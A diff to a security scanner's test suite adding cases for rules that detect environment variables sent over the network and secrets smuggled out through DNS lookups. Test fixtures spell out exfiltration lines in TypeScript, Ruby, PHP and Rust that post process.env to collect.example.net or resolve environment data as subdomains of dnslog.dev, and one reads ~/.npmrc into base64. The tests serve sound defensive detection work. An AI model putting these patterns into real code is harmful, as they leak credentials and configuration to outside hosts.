@@ -308,6 +308,13 @@ describe('suspicious-network-endpoint: the whole environment sent, whatever the 
     expect(sent('src/config.py', ['settings = dict(os.environ)', 'a = 1', 'b = 2', 'c = 3', 'd = 4', 'e = 5', "requests.post(URL, json={'a': a})"])).toEqual([]);
     expect(sent('src/app.py', ['request = Request(scope, receive)', 'settings = dict(os.environ)'])).toEqual([]);
     expect(sent('src/report.js', ["const req = https.request({ hostname: 'ci.example', method: 'POST' });", 'a();', 'b();', 'c();', 'd();', 'e();', 'log(JSON.stringify(process.env));'])).toEqual([]);
+    // A destructure takes the variables it names: the commonest way a Node.js module reads its configuration.
+    expect(sent('src/events.ts', ["const { API_URL, SERVICE_NAME, PORT = '8080' } = process.env;", "await fetch(`${API_URL}/v1/events`, { method: 'POST', body: JSON.stringify(event) });"])).toEqual([]);
+    expect(sent('src/events.js', ['({ API_URL } = process.env);', "await fetch(API_URL, { method: 'POST', body: JSON.stringify(event) });"])).toEqual([]);
+  });
+
+  it('reports a destructure whose rest element takes the whole environment', () => {
+    expect(sent('src/events.ts', ['const { NODE_ENV, ...rest } = process.env;', "await fetch('https://collect.example.net/e', { method: 'POST', body: JSON.stringify(rest) });"])).toEqual([['high', 'The whole environment is sent over the network', 11]]);
   });
 });
 
@@ -2106,6 +2113,15 @@ describe('dns-exfiltration: data written into the name a DNS lookup asks for', (
   it('forgets a variable assigned ordinary data again, and reads no variable of ordinary data', () => {
     expect(dns('scripts/check.sh', ['D=$(cat ~/.npmrc | base64)', 'D=$(git rev-parse --short HEAD)', 'host "$D.preview.acme.dev"'])).toBeUndefined();
     expect(dns('scripts/check.sh', ['SERVICE=api', 'REV=$(git rev-parse --short HEAD)', 'dig +short "$SERVICE.$REV.preview.acme.dev"'])).toBeUndefined();
+  });
+  it("reads the whole environment in every form the code rules know (WHOLE_ENVIRONMENT's), not only a few of them", () => {
+    // The forms this rule once wrote for itself lacked Ruby's ENV.map, ENV.to_a…, PHP's getenv() and Rust's env::vars_os().
+    expect(dns('lib/setup.rb', ['d = ENV.map { |k, v| v }.join("-")[0, 60]', 'Resolv.getaddress("#{d}.x.dnslog.dev")'])?.severity).toBe('critical');
+    expect(dns('src/boot.php', ["$d = substr(implode('-', getenv()), 0, 60);", 'gethostbyname("{$d}.x.dnslog.dev");'])?.severity).toBe('critical');
+    expect(dns('build.rs', ['let d: String = env::vars_os().map(|(k, _)| k.to_string_lossy().into_owned()).collect();', 'let _ = lookup_host(format!("{}.x.dnslog.dev:80", d));'])?.severity).toBe('critical');
+    // A bare process.env or os.environ is also how one variable is destructured or aliased: no data.
+    expect(dns('src/discovery.ts', ['const { SERVICE } = process.env;', 'dns.lookup(`${SERVICE}.svc.acme.io`, cb);'])).toBeUndefined();
+    expect(dns('src/discovery.py', ['env = os.environ', 'socket.gethostbyname(f"{env[\'SERVICE\']}.svc.acme.io")'])).toBeUndefined();
   });
   it('is quiet on lookups of names built from ordinary values, random names, local and example domains', () => {
     expect(dns('scripts/check-dns.sh', ['dig +short "${SERVICE}.svc.cluster.local"', 'dig +short "_acme-challenge.$DOMAIN" TXT @"$NS"', 'host "$(git rev-parse --short HEAD).preview.acme.dev"', 'ping -c1 "$(hostname).corp.acme.com"', 'echo "resolving $(whoami).example.dev"'])).toBeUndefined();
